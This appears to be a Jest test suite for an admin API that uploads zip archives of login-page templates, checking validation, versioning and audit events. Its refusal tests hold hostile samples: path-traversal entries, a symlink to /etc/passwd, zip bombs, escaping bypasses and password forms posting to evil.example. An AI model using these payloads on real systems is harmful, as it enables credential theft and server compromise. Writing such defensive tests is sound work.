import { createHash } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { strFromU8, unzipSync, type ZipAttributes, zipSync } from 'fflate';
import { type AdminDesk, openAdminDesk } from '../support/admin-desk.ts';
import { faultsOf } from '../support/config-object.ts';
import { givenClient } from '../support/fixtures.ts';
import { ask } from '../support/graphql.ts';
import { type Platform, startPlatform } from '../support/start-platform.ts';
import { type Trail, trailOf } from '../support/trail.ts';
import { archiveOf, bankFiles } from './archive.ts';

let platform: Platform;
let trail: Trail;
let admin: AdminDesk;

const selection = 'templateSet { id name default version sha256 usedByCount archive files { path size sha256 content } } warnings';
const create = (input: object) => admin.call('createTemplateSet(input: TemplateSetInput!)', { input }, selection);
const update = (name: string, input: object) => admin.call('updateTemplateSet(name: String!, input: TemplateSetInput!)', { name, input }, selection);
const remove = (name: string) => admin.call('deleteTemplateSet(name: String!)', { name }, 'deletedId');
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

beforeAll(async () => {
  platform = await startPlatform();
  trail = trailOf(platform);
  admin = await openAdminDesk(platform);
});
beforeEach(async () => {
  await platform.sql('delete from template_set');
  await trail.mark();
});
afterAll(() => platform.stop());

test('what is uploaded comes back, file by file and as an archive; the trail tells its digest', async () => {
  const files = bankFiles('Bank');
  const { templateSet: set, warnings, userErrors } = await create({ name: 'bank', archive: archiveOf(files) });
  expect([userErrors, warnings]).toEqual([[], []]);
  const sorted = Object.entries(files).toSorted(([a], [b]) => (a < b ? -1 : 1));
  expect(set.files).toEqual(sorted.map(([path, content]) => ({ path, size: content.length, sha256: sha256(content), content })));
  expect(set.sha256).toBe(sha256(sorted.map(([path, content]) => `${sha256(content)}  ${path}\n`).join('')));
  const unpacked = Object.entries(unzipSync(Buffer.from(set.archive, 'base64'))).map(([path, bytes]) => [path, strFromU8(bytes)]);
  expect(Object.fromEntries(unpacked)).toEqual(files);
  await trail.expectTrail([
    [
      'ADMIN_TEMPLATES_TEMPLATE_SETS_CREATED',
      {
        adminUser: admin.username,
        details: { objectType: 'template_set', objectId: set.id, changes: { name: [null, 'bank'], files: [null, set.sha256.slice(0, 32)] } },
      },
    ],
  ]);
  expect((await update('bank', { version: 1, archive: set.archive })).templateSet.version).toBe(1);
  await trail.expectTrail([]);
});

test('a set is replaced, renamed, made the default; those who name it follow, and name none once it is deleted', async () => {
  await create({ name: 'old', default: true, archive: archiveOf({ 'login.html': 'old' }) });
  const { templateSet: set } = await create({ name: 'bank', archive: archiveOf({ 'login.html': 'a' }) });
  const client = await givenClient(platform, { template_set: 'bank' });
  await trail.mark();
  const { templateSet: changed } = await update('bank', { version: 1, name: 'bank2', default: true, archive: archiveOf({ 'login.html': 'b' }) });
  expect(changed).toMatchObject({ name: 'bank2', default: true, usedByCount: 1, version: 2 });
  await trail.expectTrail([
    ['ADMIN_TEMPLATES_TEMPLATE_SETS_UPDATED', { details: { changes: { default: [true, false] }, reason: 'default_moved' } }],
    [
      'ADMIN_TEMPLATES_TEMPLATE_SETS_UPDATED',
      {
        details: {
          objectId: set.id,
          changes: { name: ['bank', 'bank2'], default: [false, true], files: [set.sha256.slice(0, 32), changed.sha256.slice(0, 32)] },
        },
      },
    ],
  ]);
  const named = () => platform.sql('select template_set from client where client_id = $1', [client.clientId]);
  expect(await named()).toEqual([{ template_set: 'bank2' }]);
  expect(faultsOf(await update('bank2', { version: 1, default: false }))).toEqual(['STALE_VERSION input.version']);
  expect(faultsOf(await update('bank', { version: 2 }))).toEqual(['NOT_FOUND name']);
  expect(await remove('bank2')).toEqual({ deletedId: set.id, userErrors: [] });
  await trail.expectTrail([['ADMIN_TEMPLATES_TEMPLATE_SETS_DELETED', { details: { objectId: set.id } }]]);
  expect(await named()).toEqual([{ template_set: null }]);
  expect(await platform.sql('select 1 from template_set where "default"')).toEqual([]);
  expect(faultsOf(await remove('bank2'))).toEqual(['NOT_FOUND name']);
});

test('a client and an application name a set that exists', async () => {
  await create({ name: 'bank', archive: archiveOf({ 'login.html': 'a' }) });
  const input = { clientId: 'branded', name: 'Branded', grantTypes: ['CLIENT_CREDENTIALS'], templateSet: 'other' };
  const createClient = (given: object) =>
    admin.call(
      'createStaticClient(input: StaticClientInput!)',
      { input: given },
      'client { ... on StaticClient { templateSet { name usedByCount } } }',
    );
  expect(faultsOf(await createClient(input))).toEqual(['UNKNOWN_REFERENCE input.templateSet']);
  expect((await createClient({ ...input, templateSet: 'bank' })).client.templateSet).toEqual({ name: 'bank', usedByCount: 1 });
  const app = { identifier: 'app', name: 'App', flows: ['USER_REGISTRATION'], redirectUrl: 'com.example.app://callback', templateSet: 'bank' };
  const answer = await admin.call('createMobileApp(input: MobileAppInput!)', { input: app }, 'mobileApp { templateSet { name usedByCount } }');
  expect(answer.mobileApp?.templateSet ?? answer).toEqual({ name: 'bank', usedByCount: 2 });
});

const patched = (archive: Buffer, size: number) => {
  for (const [mark, offset] of [
    ['PK\u0003\u0004', 22],
    ['PK\u0001\u0002', 24],
  ] as const)
    archive.writeUInt32LE(size, archive.indexOf(mark, 0, 'latin1') + offset);
  return archive.toString('base64');
};
const link = (target: string): [Uint8Array, { os: number; attrs: number } & ZipAttributes] => [Buffer.from(target), { os: 3, attrs: 0o120777 << 16 }];
const random = Buffer.from(Array.from({ length: 6_000_000 }, () => Math.trunc(Math.random() * 95) + 32));

describe('refused without an event', () => {
  test.each<[string, object, string]>([
    ['no archive', {}, 'REQUIRED input.archive'],
    ['nothing inside', { archive: archiveOf({}) }, 'REQUIRED input.archive'],
    ['no zip', { archive: Buffer.from('<html>').toString('base64') }, 'INVALID_VALUE input.archive'],
    [
      'a zip that ends early',
      {
        archive: Buffer.from(archiveOf(bankFiles('x')), 'base64')
          .subarray(0, 400)
          .toString('base64'),
      },
      'INVALID_VALUE input.archive',
    ],
    ['a way up', { archive: archiveOf({ '../login.html': 'x' }) }, 'INVALID_VALUE input.archive'],
    ['a way up inside', { archive: archiveOf({ 'a/../../login.html': 'x' }) }, 'INVALID_VALUE input.archive'],
    ['an absolute path', { archive: archiveOf({ '/etc/login.html': 'x' }) }, 'INVALID_VALUE input.archive'],
    ['a path of another system', { archive: archiveOf({ 'a\\login.html': 'x' }) }, 'INVALID_VALUE input.archive'],
    ['a drive', { archive: archiveOf({ 'C:/login.html': 'x' }) }, 'INVALID_VALUE input.archive'],
    ['a hidden file', { archive: archiveOf({ '.htaccess': 'x' }) }, 'INVALID_VALUE input.archive.0.path'],
    ['a link', { archive: archiveOf({ 'login.html': link('/etc/passwd') }) }, 'INVALID_VALUE input.archive'],
    ['a picture in bytes', { archive: archiveOf({ 'a.png': Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 0xff]) }) }, 'INVALID_VALUE input.archive'],
    ['a byte that is no text', { archive: archiveOf({ 'a.html': 'a\u0000b' }) }, 'INVALID_VALUE input.archive.0.content'],
    [
      '201 files',
      { archive: archiveOf(Object.fromEntries(Array.from({ length: 201 }, (_, at) => [`${at}.html`, 'x']))) },
      'INVALID_VALUE input.archive',
    ],
    ['a bomb', { archive: archiveOf({ 'a.css': Buffer.alloc(21 * 1024 * 1024, 32) }) }, 'INVALID_VALUE input.archive'],
    [
      'a bomb that says it is small',
      { archive: patched(Buffer.from(zipSync({ 'a.css': Buffer.alloc(5_000_000, 32) })), 10) },
      'INVALID_VALUE input.archive',
    ],
    ['more than 5 MB', { archive: Buffer.from(zipSync({ 'a.css': random }, { level: 0 })).toString('base64') }, 'INVALID_VALUE input.archive'],
    ['a syntax error', { archive: archiveOf({ 'login.html': '{% if %}' }) }, 'INVALID_VALUE input.archive'],
    ['a value past the escaping', { archive: archiveOf({ 'login.html': '{{ username | raw }}' }) }, 'INVALID_VALUE input.archive'],
    ['another way past it', { archive: archiveOf({ 'parts/a.html': '{% echo username %}' }) }, 'INVALID_VALUE input.archive'],
    ['a third', { archive: archiveOf({ 'login.html': '{% cycle username, "b" %}' }) }, 'INVALID_VALUE input.archive'],
    ...[
      'action="https://evil.example/"',
      "action='//evil.example'",
      'action={{username}}',
      'method="post"',
      'action="{{ home }}.evil.example"',
      'ACTION = "{{ t.home }}/"',
    ].map((attribute): [string, object, string] => [
      `a form with ${attribute}`,
      { archive: archiveOf({ 'login.html': `<form ${attribute}><input name="password"></form>` }) },
      'INVALID_VALUE input.archive',
    ]),
    [
      'a button that leads elsewhere',
      { archive: archiveOf({ 'parts/a.html': '<form action="{{ home }}/login"><button formaction="https://evil.example">' }) },
      'INVALID_VALUE input.archive',
    ],
    [
      'security L1: an attribute that is only written when the page is shown',
      { archive: archiveOf({ 'login.html': `<form {{ 'act' | append: 'ion' }}="https://evil.example/steal" action="{{ home }}/login"></form>` }) },
      'INVALID_VALUE input.archive',
    ],
    [
      'security L1: the address of the client on the page with the password',
      { archive: archiveOf({ 'login.html': '<form method="post" action="{{ redirectUri }}"></form>' }) },
      'INVALID_VALUE input.archive',
    ],
    [
      'security L1: a path that climbs out',
      { archive: archiveOf({ 'login.html': '<form method="post" action="{{ home }}/../elsewhere"></form>' }) },
      'INVALID_VALUE input.archive',
    ],
    [
      'security L1: another base for all addresses',
      { archive: archiveOf({ 'login.html': '<base href="https://evil.example"><form method="post" action="{{ home }}/login"></form>' }) },
      'INVALID_VALUE input.archive',
    ],
    ['an unknown filter', { archive: archiveOf({ 'login.html': '{{ username | system }}' }) }, 'INVALID_VALUE input.archive'],
    ['a name with a slash', { name: 'a/b', archive: archiveOf({ 'login.html': 'x' }) }, 'INVALID_VALUE input.name'],
  ])('%s', async (_what, input, fault) => {
    expect(faultsOf(await create({ name: 'bank', ...input }))).toEqual([fault]);
    expect(await platform.sql('select 1 from template_set')).toEqual([]);
    await trail.expectTrail([]);
  });

  test('a taken name, and an operator', async () => {
    const input = { name: 'bank', archive: archiveOf({ 'login.html': 'x' }) };
    await create(input);
    await trail.mark();
    expect(faultsOf(await create(input))).toEqual(['ALREADY_EXISTS input.name']);
    const operator = await openAdminDesk(platform, 'OPERATOR');
    await trail.mark();
    const document = 'mutation ($input: TemplateSetInput!) { createTemplateSet(input: $input) { warnings } }';
    expect((await operator.ask(document, { input })).errors?.[0]?.extensions.code).toBe('FORBIDDEN');
    expect((await operator.ask('{ templateSets { edges { node { files { content } } } } }')).data.templateSets.edges[0].node.files).toEqual([
      { content: 'x' },
    ]);
    await trail.expectTrail([
      ['ADMIN_ACCESS_DENIED', { adminUser: operator.username, details: { reason: 'role_missing', endpoint: 'createTemplateSet' } }],
    ]);
  });
});

test('what is not used or does not work is warned about; what systems add by themselves is left out', async () => {
  const files = {
    'page.html': 'x',
    'login.html': '<p style="x" onclick="y"><script>1</script>',
    'README.md': 'x',
    '__MACOSX/a': 'x',
    'a/.DS_Store': 'x',
  };
  const { warnings, templateSet: set } = await create({ name: 'bank', archive: archiveOf(files) });
  expect(set.files.map(({ path }: { path: string }) => path)).toEqual(['README.md', 'login.html', 'page.html']);
  expect(warnings.map((warning: string) => warning.split(' ', 4).join(' '))).toEqual([
    'README.md is not used:',
    'login.html has a script,',
    'login.html has a style',
    'login.html has an event',
    'page.html is not the',
  ]);
});

test('an archive of 5 MB fits through the door of administrators, and not through that of nobody', async () => {
  const archive = Buffer.from(zipSync({ 'a.css': random.subarray(0, 5_200_000) }, { level: 0 })).toString('base64');
  expect((await create({ name: 'big', archive })).templateSet.files[0].size).toBe(5_200_000);
  const document = 'mutation ($input: TemplateSetInput!) { createTemplateSet(input: $input) { warnings } }';
  expect((await ask(platform, 'admin', document, { input: { archive } })).status).toBe(413);
  expect((await ask(platform, 'account', '{ __typename }', { archive }, { token: admin.token })).status).toBe(413);
});
